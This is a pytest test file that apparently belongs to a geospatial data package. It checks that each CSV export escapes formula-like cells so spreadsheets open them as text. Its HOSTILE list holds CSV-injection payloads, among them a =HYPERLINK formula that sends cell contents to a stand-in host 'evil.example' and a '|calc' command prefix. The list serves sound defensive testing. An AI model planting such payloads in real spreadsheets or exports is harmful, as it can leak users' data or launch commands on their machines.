"""The one table writer (geo.tables): hostile cells come out as text in every CSV product.

Formula-like text (``=HYPERLINK(...)``, ``+1``, ``-2+3``, ``@SUM``, tab / CR / LF
prefixes) opens as text in a spreadsheet; numbers stay numbers; the HXL row survives a
round trip.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import Point

from geo.errors import DataFileError
from geo.escape import FORMULA_PREFIXES
from geo.tables import csv_text, hxl_row, read_csv, safe_table, write_csv

pytestmark = [pytest.mark.filterwarnings("ignore:Use `@` matmul:PendingDeprecationWarning")]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "%0A=1",
    'a "quoted", text',
]


def _raw_cells(text: str) -> list[list[str]]:
    """Cells as a spreadsheet reads them (csv module: quotes undone, nothing else)."""
    import csv

    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_text_cells(text: str, column: str, values: list[str]) -> None:
    rows = _raw_cells(text)
    j = rows[0].index(column)
    cells = [r[j] for r in rows[2:]]
    for cell, value in zip(cells, values, strict=True):
        if value.startswith(FORMULA_PREFIXES):
            assert cell == "'" + value
        else:
            assert cell == value


def test_hostile_text_is_text_numbers_stay_numbers_round_trip() -> None:
    n = len(HOSTILE)
    table = pd.DataFrame(
        {
            "locality": HOSTILE,
            "population": [-2.5 + i for i in range(n)],
            "localities": list(range(-3, n - 3)),
            "date": pd.to_datetime([f"2025-01-{i + 1:02d}" for i in range(n)]),
            "since": [dt.date(2024, 1, i + 1) for i in range(n)],
            "restricted": [i % 2 == 0 for i in range(n)],
            "note": [None, *HOSTILE[1:]],
        }
    )
    text = csv_text(table)
    rows = _raw_cells(text)
    assert rows[0] == list(table.columns)
    assert rows[1] == hxl_row(list(table.columns))
    assert len(rows) == 2 + n  # a CR or LF inside a cell never splits a row
    _assert_text_cells(text, "locality", HOSTILE)
    # numbers are written as numbers (a negative number is data, not a formula)
    assert [r[1] for r in rows[2:]] == [str(-2.5 + i) for i in range(n)]
    assert [r[2] for r in rows[2:]] == [str(i) for i in range(-3, n - 3)]
    assert rows[2][3] == "2025-01-01" and rows[2][4] == "2024-01-01" and rows[2][5] == "True"
    assert rows[2][6] == ""  # missing stays empty
    back, tags = read_csv(io.StringIO(text))
    assert tags == hxl_row(list(table.columns))
    assert list(back["locality"]) == HOSTILE
    assert list(back["population"]) == list(table["population"])
    assert list(back["localities"]) == list(table["localities"])
    assert back["note"].isna().iloc[0] and list(back["note"].iloc[1:]) == HOSTILE[1:]


def test_non_text_objects_and_headers_are_made_safe() -> None:
    table = pd.DataFrame({"=evil": [["=a", "b"]], "named_localities": [("-x",)]})
    safe = safe_table(table)
    assert safe.iloc[0, 0] == "['=a', 'b']" and safe.iloc[0, 1] == "('-x',)"
    assert _raw_cells(csv_text(table, hxl=False))[0] == ["'=evil", "named_localities"]


def test_write_csv_is_atomic_and_reports_a_bad_target(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old", encoding="utf-8")
    table = pd.DataFrame({"locality": ["=1+1"], "hours": [4.0]})
    assert write_csv(table, target) == target
    assert target.read_text(encoding="utf-8") == csv_text(table)
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # no temporary left
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(DataFileError, match="cannot write"):
        write_csv(table, blocker / "out.csv")


# --------------------------------------------------------------------------- every CSV product


def test_incident_exports(tmp_path: Path) -> None:
    from geo.model.incidents import to_hxl_csv, write_hxl_csv

    n = len(HOSTILE)
    table = gpd.GeoDataFrame(
        {
            "incident_id": [f"curated:{i}" for i in range(n)],
            "date": pd.to_datetime(["2025-10-01"] * n),
            "event_type": HOSTILE,
            "actor1": HOSTILE[::-1],
            "notes": HOSTILE,
            "fatalities": list(range(n)),
            "latitude": [14.5] * n,
            "longitude": [-4.25] * n,
            "restricted": [False] * n,
        },
        geometry=[Point(-4.25, 14.5)] * n,
        crs="EPSG:4326",
    )
    text = to_hxl_csv(table, public=True)
    for column, values in (("event_type", HOSTILE), ("actor1", HOSTILE[::-1]), ("notes", HOSTILE)):
        _assert_text_cells(text, column, values)
    assert _raw_cells(text)[2][7] == "-4.25"
    path = write_hxl_csv(table, tmp_path / "inc.csv")
    assert path.read_bytes().decode("utf-8") == text
    back, tags = read_csv(path)
    assert list(back["notes"]) == HOSTILE and tags[0] == "#event+id"


def test_export_data_csv(tmp_path: Path) -> None:
    from geo.products.export import write_export

    hubs = gpd.GeoDataFrame(
        {"hub_id": [f"H{i}" for i in range(len(HOSTILE))], "name": HOSTILE},
        geometry=[Point(-4.0 + i / 10, 14.0) for i in range(len(HOSTILE))],
        crs="EPSG:4326",
    )
    out = tmp_path / "hubs.csv"
    assert write_export({"hubs": hubs}, out, layers=["hubs"]) == ["hubs"]
    text = out.read_bytes().decode("utf-8")
    _assert_text_cells(text, "name", HOSTILE)
    back, tags = read_csv(out)
    assert list(back["name"]) == HOSTILE and list(back["lon"]) == [round(-4.0 + i / 10, 5) for i in range(10)]
    assert tags[:2] == [hxl_row(["hub_id"])[0], hxl_row(["name"])[0]]


def test_reach_localities_page_download() -> None:
    from geo.model.scenario import LOCALITY_CHANGE_COLUMNS
    from views.common import scenario_csv

    n = len(HOSTILE)
    loc = pd.DataFrame(
        {
            "hub_id": ["MOP"] * n,
            "hub": HOSTILE[::-1],
            "hours": [8.0] * n,
            "change": ["lost"] * n,
            "place_id": [str(i) for i in range(n)],
            "locality": HOSTILE,
            "adm2_pcode": ["ML0501"] * n,
            "adm3_pcode": ["ML050101"] * n,
            "lon": [-4.1] * n,
            "lat": [14.2] * n,
            "travel_time_h_before": [3.456] * n,
            "travel_time_h_after": [float("nan")] * n,
        },
        columns=LOCALITY_CHANGE_COLUMNS,
    )
    text = scenario_csv(loc).decode("utf-8")
    _assert_text_cells(text, "locality", HOSTILE)
    _assert_text_cells(text, "hub", HOSTILE[::-1])
    rows = _raw_cells(text)
    assert rows[2][rows[0].index("travel_time_h_before")] == "3.46"
    assert rows[2][rows[0].index("travel_time_h_after")] == ""


def test_status_cli_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from geo.cli import main as cli_main
    from geo.store import constraints

    store = tmp_path / "s.sqlite"
    axis = "RN16-SEV-DOU"
    constraints.record_road_status(
        store,
        axis_id=axis,
        status="closed",
        cause="security",
        valid_from="2025-11-01",
        source="=HYPERLINK(1)",
        recorded_by="@SUM",
        note="-2+3",
    )
    assert cli_main(["status", "history", "--axis", axis, "--store", str(store), "--format", "csv"]) == 0
    rows = _raw_cells(capsys.readouterr().out)
    last = dict(zip(rows[0], rows[-1], strict=True))
    assert last["source"] == "'=HYPERLINK(1)" and last["recorded_by"] == "'@SUM" and last["note"] == "'-2+3"
    assert last["version_id"].isdigit()


@pytest.mark.slow
def test_snapshot_csvs(data_dir: Path, tmp_path: Path) -> None:
    from geo.products import snapshot as S

    inputs = S.load_snapshot_inputs(data_dir, with_reach=False)
    axes = inputs.axes.copy()
    axes["axis_name"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(axes))]
    admin2 = inputs.admin2.copy()
    admin2.loc[admin2.index[0], "adm2_name"] = "=HYPERLINK(0)"
    inputs = dataclasses.replace(inputs, axes=axes, admin2=admin2)
    snap = S.build_snapshot(inputs, tmp_path, as_of=dt.date(2025, 11, 30), delay_days=30, lang="fr")
    road = (snap / "downloads" / "road_status.csv").read_bytes().decode("utf-8")
    names = [r[_raw_cells(road)[0].index("axis_name")] for r in _raw_cells(road)[2:]]
    assert names and all(n.startswith("'") for n in names if n[1:].startswith(FORMULA_PREFIXES))
    assert not any(n.startswith(FORMULA_PREFIXES) for n in names)
    for name in S.DOWNLOADS:
        path = snap / "downloads" / f"{name}.csv"
        if not path.exists():
            continue
        text = path.read_bytes().decode("utf-8")
        for row in _raw_cells(text)[2:]:
            assert not any(c.startswith(FORMULA_PREFIXES) and not _number(c) for c in row), (name, row)
        back, tags = read_csv(path)
        assert tags and len(back) == len(_raw_cells(text)) - 2


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
